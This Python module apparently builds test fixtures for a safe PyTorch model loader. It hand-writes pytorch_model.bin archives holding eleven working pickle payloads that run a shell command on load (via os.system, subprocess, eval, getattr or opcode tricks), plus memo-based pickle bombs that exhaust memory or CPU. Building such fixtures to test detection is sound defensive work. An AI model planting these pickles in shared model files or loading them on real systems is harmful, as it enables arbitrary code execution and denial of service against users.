"""pytorch_model.bin as torch lays it out, with pickles written by hand: of tensors, and of code."""

import io
import struct
import zipfile
from collections.abc import Mapping

import numpy as np

TENSOR = b"ctorch._utils\n_rebuild_tensor_v2\n"


def text(value: str) -> bytes:
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def number(value: int) -> bytes:
    content = value.to_bytes(9, "little", signed=True)
    return b"\x8a" + bytes([len(content)]) + content


def group(*parts: bytes) -> bytes:
    """A tuple."""
    return b"(" + b"".join(parts) + b"t"


def storage(key: str, count: int, kind: str = "FloatStorage") -> bytes:
    return group(text("storage"), f"ctorch\n{kind}\n".encode(), text(key), text("cpu"), number(count)) + b"Q"


def tensor(of: bytes, shape, strides=None, begin: int = 0) -> bytes:
    if strides is None:
        strides = [int(np.prod(shape[axis + 1 :])) for axis in range(len(shape))]
    numbers = (group(*map(number, each)) for each in (shape, strides))
    return TENSOR + group(of, number(begin), *numbers, b"\x89", b"ccollections\nOrderedDict\n)R") + b"R"


def state(entries: Mapping[str, bytes]) -> bytes:
    """The pickle of an OrderedDict."""
    pairs = b"".join(text(name) + value for name, value in entries.items())
    return b"\x80\x02ccollections\nOrderedDict\n)R(" + pairs + b"u."


def torch_zip(program: bytes, storages: Mapping[str, bytes] = {}, *, compressed: bool = False) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        archive.writestr("model/data.pkl", program)
        archive.writestr("model/byteorder", b"little")
        for key, content in storages.items():
            archive.writestr(f"model/data/{key}", content)
    return file.getvalue()


def torch_file(tensors: Mapping[str, np.ndarray], **changed: bytes | None) -> bytes:
    """The file of tensors, of which some have another pickle, or none."""
    keys = {name: str(index) for index, name in enumerate(tensors)}
    entries = {name: tensor(storage(keys[name], x.size), x.shape) for name, x in tensors.items()}
    entries |= {name.replace("__", "."): value for name, value in changed.items()}
    storages = {keys[name]: x.tobytes() for name, x in tensors.items()}
    return torch_zip(state({name: value for name, value in entries.items() if value is not None}), storages)


def in_protocol_4(module: str, name: str) -> bytes:
    return b"\x80\x04" + text(module) + text(name) + b"\x93"


def attacks(command: str) -> dict[str, tuple[bytes, str]]:
    """Spelling -> a pickle that runs a command of the shell where somebody loads it, and what is said of it."""
    quoted, word = text(command), command.encode()
    lists = text("sh") + text("-c") + quoted
    return {
        "a name": (b"cos\nsystem\n" + group(quoted) + b"R.", "the name 'os.system'"),
        "protocol 0": (b"cposix\nsystem\n(S'" + word + b"'\ntR.", "the name 'posix.system'"),
        "a name on the stack": (in_protocol_4("os", "system") + group(quoted) + b"R.", "the name 'os.system'"),
        "an instance": (b"(S'" + word + b"'\nios\nsystem\n.", "the instruction INST"),
        "an object": (b"(cos\nsystem\n" + quoted + b"o.", "the name 'os.system'"),
        "a process": (b"csubprocess\ncheck_call\n" + group(b"(" + lists + b"l") + b"R.", "'subprocess.check_call'"),
        "an attribute": (
            b"cbuiltins\ngetattr\n"
            + group(b"c__builtin__\n__import__\n" + group(text("os")) + b"R", text("system"))
            + b"R"
            + group(quoted)
            + b"R.",
            "the name 'builtins.getattr'",
        ),
        "eval": (
            b"cbuiltins\neval\n" + group(text(f"__import__('os').system({command!r})")) + b"R.",
            "'builtins.eval'",
        ),
        "behind a name of torch": (
            in_protocol_4("torch._utils", "torch.os.system") + group(quoted) + b"R.",
            "the name 'torch._utils.torch.os.system'",
        ),
        "a state": (
            b"\x80\x02ccollections\nOrderedDict\n)R}" + text("x") + b"cos\nsystem\n" + group(quoted) + b"Rsb.",
            "the name 'os.system'",
        ),
        "among tensors": (
            state({"a": b"cos\nsystem\n" + group(quoted) + b"R", "b": tensor(storage("0", 1), (1,))}),
            "the name 'os.system'",
        ),
    }


LAUGHS = b"]q\0" + b"".join(
    b"](" + bytes([ord("h"), level]) * 10 + bytes([ord("e"), ord("q"), level + 1]) for level in range(60)
)
"""Lists that repeat each other: written out, the last would have 10^60 parts. It stays in the memo, at 60."""
TUPLES = b")q\0" + b"".join(bytes([ord("h"), level, 0x86, ord("q"), level + 1]) for level in range(60))
"""Tuples that repeat each other: the hash of the last takes 2^60 steps."""


def copies(pairs: int, calls: int) -> bytes:
    """A list of pairs, of which many calls make a dict each."""
    rows = b"".join(b"](" + text(f"{row:05}") + b"Ne" for row in range(pairs))
    return b"\x80\x02](" + rows + b"eq\0ccollections\nOrderedDict\nq\x01" + b"h\x01h\0\x85R" * calls + b"."
